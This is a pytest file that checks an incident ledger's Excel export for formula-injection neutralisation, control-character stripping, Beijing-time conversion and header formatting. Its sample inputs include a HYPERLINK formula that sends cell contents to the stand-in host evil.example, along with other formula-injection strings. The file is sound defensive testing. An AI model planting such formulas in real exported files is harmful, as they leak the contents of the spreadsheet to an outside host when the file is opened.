"""The ledger goes through the core export helper: formula text neutralised, control characters
dropped, Beijing time, frozen Chinese header, over HTTP."""
from __future__ import annotations

import datetime as dt
import io

from openpyxl import load_workbook
from sqlalchemy import update

from core.db import db
from core.tenancy import tenant_context
from plugins.incidents.models import Incident
from tests.plugins.incidents.conftest import base

NASTY = ['=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "+1 路灯坏了", "@SUM(A1:A9)", "-2 号楼漏水",
         "井盖\x01缺失", "\t=1+1"]


def test_ledger_cells_are_safe(town, report, api_as):
    ids = [report(description=text)["id"] for text in NASTY]
    with tenant_context(town.tenant):
        db.session.execute(update(Incident).where(Incident.id == ids[0])
                           .values(reported_at=dt.datetime(2026, 3, 31, 15, 30)))  # 23:30 Beijing time
        db.session.commit()
    resp = api_as(town.staff).get(f"{base(town)}/ledger.xlsx")
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.data)).active
    assert ws.freeze_panes == "A2" and ws["A1"].font.b
    assert ws.column_dimensions["E"].width >= 40  # 问题描述 is wide
    rows = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    descriptions = [rows[i][4] for i in ids]
    assert [c.value for c in descriptions] == [
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "'+1 路灯坏了", "'@SUM(A1:A9)", "'-2 号楼漏水",
        "井盖缺失", "'\t=1+1"]
    assert all(c.data_type == "s" for c in descriptions)
    assert rows[ids[0]][1].value == dt.datetime(2026, 3, 31, 23, 30)
